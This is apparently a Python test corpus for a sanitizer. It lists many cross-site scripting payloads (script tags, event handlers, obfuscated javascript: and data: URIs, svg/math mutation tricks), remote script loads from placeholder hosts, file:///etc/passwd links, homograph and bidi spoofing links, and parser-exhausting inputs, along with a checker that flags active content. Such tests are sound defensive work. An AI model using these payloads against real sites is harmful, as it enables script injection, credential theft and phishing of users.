# ruff: noqa: E501  # a corpus reads better as it is
"""Inputs that attack whoever reads them, and what "nothing active is left" means."""

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

ACTIVE_TAGS = {
    "script", "style", "iframe", "object", "embed", "svg", "math", "form", "input", "button", "link", "meta", "base",
    "video", "audio", "template", "noscript", "frame", "frameset", "applet", "textarea", "select", "xmp", "title",
    "isindex", "marquee", "details", "body", "html", "head", "animate", "set", "use", "foreignobject", "portal",
}  # fmt: skip

HTML = [
    '<img src="/files/abcdefghijklmnopqrst/a.png" onload=alert(1)>', '<img src="/files/abcdefghijklmnopqrst/a.png" srcset="//x.example/a 2x">',
    '<img src="//x.example/files/abcdefghijklmnopqrst/a.png">', '<img alt="&gt; src=" loading=lazy>', "<img src='/files/../sign-out'>",
    '<img alt="<img src=/x>" src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<script>alert(1)</script>", "<SCRIPT SRC=//x.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>", "<script/x>alert(1)</script>", "<<script>alert(1)//<</script>", "<script>alert(1)",
    "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>",
    '<img src="x" onerror\n=\n"alert(1)">', "<p onclick=alert(1)>x</p>", "<a onmouseover='alert(1)'>x</a>",
    "<a href=javascript:alert(1)>x</a>", "<a href='JaVaScRiPt:alert(1)'>x</a>", "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>", "<a href='java\nscript:alert(1)'>x</a>", "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>", "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>", "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='java&NewLine;script&colon;alert(1)'>x</a>", "<a href='&#0000106avascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>", "<a href='file:///etc/passwd'>x</a>", "<a href='blob:x'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>", "<a href='view-source:javascript:1'>x</a>", "<a xlink:href='javascript:1'>x</a>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href='javascript:1'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>", "<svg><use href='data:image/svg+xml,<svg id=x></svg>#x'>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<p title='</p><script>alert(1)</script>'>",
    "<style>*{background:url(javascript:alert(1))}</style>", "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>", "<link rel=stylesheet href=//x.example/x.css>", "<base href=//x.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit></form>", "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)></video>", "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>", "<!--><img src=x onerror=alert(1)>-->", "<!--[if IE]><script>1</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><script>alert(1)</script>", "<!DOCTYPE x [<!ENTITY y 'z'>]>",
    "<xmp><img src=x onerror=alert(1)></xmp>", "<textarea><img src=x onerror=alert(1)></textarea><script>1</script>",
    "<title><img src=x onerror=alert(1)></title>", "<a href='http://x' target=_blank>x</a>", "<p id=p1 name=token class=mod-only>x</p>",
    "<a href='//x.example' rel=opener>x</a>", "\x00<scr\x00ipt>alert(1)</script>", "<img src=x onerror=alert(1)//", "<div" * 2000,
    "<b>" * 5000, "<a href='x'>" * 500, "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;", "\ufeff<script>1</script>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>", "<svg><p><style><g title='</style><img src onerror=alert(1)>'>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<svg><desc><noscript><a title='</noscript><img src=x onerror=alert(1)>'>", "<select><template><style><!--</style><a rel='--><img src=x onerror=alert(1)>'>",
    "<svg><title><![CDATA[</title><img src=x onerror=alert(1)>]]>", "<math><mi><![CDATA[</mi><img src=x onerror=alert(1)>]]></math>",
    "<p><svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>", "<table><caption><svg><title><table><caption></caption></table><img src=x onerror=alert(1)>",
    "<option><style></option></select><b><img src=x onerror=alert(1)></style></option>", "<isindex type=image src=x onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>", "<plaintext><img src=x onerror=alert(1)>", "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
    "<a href='\\\\x.example'>x</a>", "<a href='/\\x.example'>x</a>", "<a href='/\t/x.example'>x</a>", "<a href='\n//x.example'>x</a>",
    "<a href='&#47;&#47;x.example'>x</a>", "<a href='javascript&#x3a;alert(1)'>x</a>", "<a href='jav&#x0D;ascript:alert(1)'>x</a>",
    "<a href='\u2028javascript:alert(1)'>x</a>", "<a href='\u00a0javascript:alert(1)'>x</a>", "<a href='javascript\uff1aalert(1)'>x</a>",
    "<a href='data\t:text/html,<script>alert(1)</script>'>x</a>", "<a href='DATA:image/svg+xml,<svg onload=alert(1)>'>x</a>",
    "<a href='http://x.example' ping='//y.example' download>x</a>", "<a href='intent://x#Intent;scheme=http;end'>x</a>",
    "<b popover id=x onbeforetoggle=alert(1)>x</b><button popovertarget=x>y</button>", "<dialog open onclose=alert(1)>x</dialog>",
    "<p contenteditable autofocus onfocus=alert(1)>x</p>", "<p slot=x is=y part=z>x</p>", "<p accesskey=x onclick=alert(1)>x</p>",
    "<svg><image href='//x.example/a.png'></svg>", "<p background='//x.example/a.png'>x</p>", "<td background='//x.example/a.png'>x</td>",
]  # fmt: skip

MARKDOWN = [
    "![x](/files/../a.png)", "![x](//files/abcdefghijklmnopqrst/a.png)", "![x](/files/abcdefghijklmnopqrst/a.png/../../x)",
    "![x](/files/abcdefghijklmnopqrst/a.png?x=1)", '![x](/files/abcdefghijklmnopqrst/a.png "onerror=alert(1)")',
    '![" onerror="alert(1)](/files/abcdefghijklmnopqrst/a.png)', "![x](/files/abcdefghijklmnopqrst/a.png#x)", "![x](/sign-out)",
    "![<img src=x onerror=1>](/files/abcdefghijklmnopqrst-8x6/a.png)", "![x](/files/abcdefghijklmnopqrst-8x6%22onerror=1/a.png)",
    "[![x](/files/abcdefghijklmnopqrst/a.png)](javascript:alert(1))", "![x](/files/abcdefghijklmnopqrst/a%22%20onerror=alert(1))",
    "![x](https://evil.example/files/abcdefghijklmnopqrst/a.png)", "![&quot; onload=1](/files/abcdefghijklmnopqrst/a&quot;.png)",
    "[x](javascript:alert(1))", "[x](JAVASCRIPT:alert(1))", "[x]( javascript:alert(1))", "[x](<javascript:alert(1)>)",
    "[x](java&#115;cript:alert(1))", "[x](java\\script:alert(1))", "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:1)",
    "[x](javascript&colon;alert(1))", "[x](data:text/html,<script>1</script>)", "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](vbscript:1)", "[x](file:///etc/passwd)", "<javascript:alert(1)>", "<data:text/html,1>", "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))", "![x](https://x.example/track.gif)", "![x][y]\n\n[y]: https://x.example/track.gif",
    '[x](http://a "onmouseover=alert(1)")', "[x](http://a '\"><script>alert(1)</script>')", '[x](http://a"onclick="alert(1))',
    "[x](http://a\" onclick=alert(1) x=\")", "`<script>alert(1)</script>`", "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```', "    <script>alert(1)</script>", "<b onclick=1>x</b>", "http://a.example/\"onclick=alert(1)",
    "http://a.example/<script>alert(1)</script>", "http://a.example/'><img src=x onerror=alert(1)>", "https://user:pass@x.example/",
    "javascript:alert(1)", "[<img src=x onerror=alert(1)>](http://a)", "# <script>alert(1)</script>", "|<script>|\n|-|\n|<img src=x onerror=1>|",
    "[a](http://x\nonclick=1)", "> <svg onload=1>", "- <iframe src=//x>", "**<script>**alert(1)**</script>**", "\\<script>alert(1)\\</script>",
    "&lt;script&gt;", "&#60;script&#62;alert(1)", "[x](#\\\" onclick=1)", "[\u202etxt.exe](http://a)", "\u202eabc\u202c \u2066x\u2069",
    "a\x00b", "a\x08\x1b[31m", "<a href=\"http://a\" onclick=\"1\">x</a>", "[x](mailto:a@b.example?bcc=c@d.example)", "www.x.example/<b>",
    "[c](//x.example)", "[c](/\\x.example)", "[c](\\\\x.example)", "[c](/&#x2f;x.example)", "[c](/%2Fx.example)", "[c](&#47;&#47;x.example)",
    "[c]( //x.example )", "[c](<//x.example/a b>)", "[c]: //x.example\n\n[c]", "[c](/\u200b/x.example)", "[c](\u00ad//x.example)",
    "[x](java\u0001script:alert(1))", "[x](\u0001javascript:alert(1))", "[x](javascript\u00ad:alert(1))", "[x](java\u200bscript:alert(1))",
    "[x](javascript\uff1aalert(1))", "[x](jav&#x09;ascript:alert(1))", "[x](jav&NewLine;ascript:alert(1))", "[x](data&colon;text/html,1)",
    "[x](<java\nscript:alert(1)>)", "[x](JaVaScRiPt&#58;alert(1))", "[x](&#x1;javascript:alert(1))", "[x](view-source:javascript:1)",
    "&#x202e;exe.txt", "[&#x202e;moc.elpmaxe](https://x.example)", "&#8238;&#8294;x", "a&#xfeff;b&#x0;c&#x8;", "https://x.example/%E2%80%AEgpj.exe",
    "[https://bank.example](https://x.example)", "[bank.example](http://bank.example@x.example)", "[b\u200bank.example](https://x.example)",
    "[\u0440\u0430y.example](https://pay.example)", "https://\u0430\u0440\u0440\u04cf\u0435.example/", "[x](https://\u0430pple.example)",
    "[@Everybody](/people/1)", "[@x](/people/1\" onclick=alert(1))", "[@<img src=x onerror=alert(1)>](/people/1)", '@"<script>alert(1)</script>"',
    "@\"x\" onmouseover=alert(1)", "> [@x](javascript:alert(1))", "[@x](//x.example/people/1)", "@[x](javascript:alert(1))",
    "\u200b" * 500, "\u0300" * 500, "a" + "\u0489" * 500, "\u2028<script>alert(1)</script>\u2029", "[" * 300 + "x" + "](javascript:1)" * 300,
    "> " * 400 + "<script>alert(1)</script>", "- " * 300 + "<img src=x onerror=alert(1)>", "**" * 400 + "<svg onload=alert(1)>",
    "`` ` <img src=x onerror=alert(1)> ` ``", "~~~ <script>\nalert(1)\n~~~", "``` onload=alert(1) class=x\nx\n```", "[x]<img src=x onerror=alert(1)>",
    "[a]: <javascript:alert(1)> '<script>'\n\n[a]", "<https://x.example/\"onclick=alert(1)>", "<a@b.example\"onclick=1>", "![x](\\files\\a)",
    "&lt;img src=x onerror=alert(1)&gt;", "&amp;lt;script&amp;gt;alert(1)", "&#x3c;img src=x onerror=alert(1)&#x3e;", "\\<img src=x onerror=alert(1)>",
]  # fmt: skip


class _Reading(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ACTIVE_TAGS or not tag.isalnum():
            self.faults.append(f"<{tag}>")
        if tag == "img":
            return self._picture(dict(attrs))
        for name, value in attrs:
            if name not in ("href", "title", "rel", "start", "dir"):
                self.faults.append(f"{tag} {name}")
            if name == "href" and re.match(r"[/\\\\]{2}|\\\\", re.sub(r"\s", "", value or "")):
                self.faults.append(f"{tag} leads elsewhere: {value!r}")
            if name == "href" and urlsplit("".join((value or "").split())).scheme.lower() not in (
                "",
                "http",
                "https",
                "mailto",
            ):
                self.faults.append(f"{tag} href={value!r}")

    def _picture(self, attrs: dict[str, str | None]) -> None:
        """Own files only, with words and sizes at most."""
        if not re.fullmatch(r"/files/[a-z2-7]{20}(-[1-9]\d*x[1-9]\d*)?/[^/?#]+", attrs.get("src") or ""):
            self.faults.append(f"img src={attrs.get('src')!r}")
        self.faults += [f"img {name}" for name in attrs if name not in ("src", "alt", "loading", "width", "height")]

    def handle_comment(self, data: str) -> None:
        self.faults.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.faults.append("declaration")

    def handle_pi(self, data: str) -> None:
        self.faults.append("instruction")


def faults(html: str) -> list[str]:
    """What in ``html`` could act, look like ours or fetch something; empty when it is only text and links."""
    reading = _Reading()
    reading.feed(html)
    reading.close()
    return reading.faults


PATHOLOGICAL = {
    "brackets": "[" * 20_000, "quotes": ">" * 20_000, "spaced quotes": "> " * 10_000, "stars": "*a" * 10_000,
    "underscores": "_a " * 6_600, "strikes": "~~a" * 6_600, "ticks": "`a" * 10_000, "images": "![[" * 6_600, "links": "[a](b" * 4_000,
    "lists": "- " * 10_000, "own pictures": "![](/files/" * 1_800, "pictures in pictures": "![![a](/files/" * 1_500, "nested list": "".join("  " * n + "- x\n" for n in range(140)), "numbers": "1. " * 6_600,
    "tags": "<a " * 6_600, "ampersands": "&" * 20_000, "angles": "<" * 20_000, "table": "a|b\n-|-\n" + "|\n" * 9_000,
    "wide table": "|a" * 3_000 + "\n" + "|-" * 3_000 + "\n" + "|\n" * 4_000, "definitions": "[a]: b\n" * 2_800,
    "open brackets in an address": "http://a.b/" + "(" * 19_000, "addresses": "http://a.b/" * 1_800, "dots": "a." * 10_000,
    "quotes apart": "> a\n\n" * 4_000, "paragraphs": "a\n\n" * 6_600, "backslashes": "\\" * 20_000, "headings": "# a\n" * 5_000,
    "brackets in addresses": ("http://a.b/" + "(" * 1_900 + " ") * 10, "at signs": "a@" * 10_000,
}  # fmt: skip
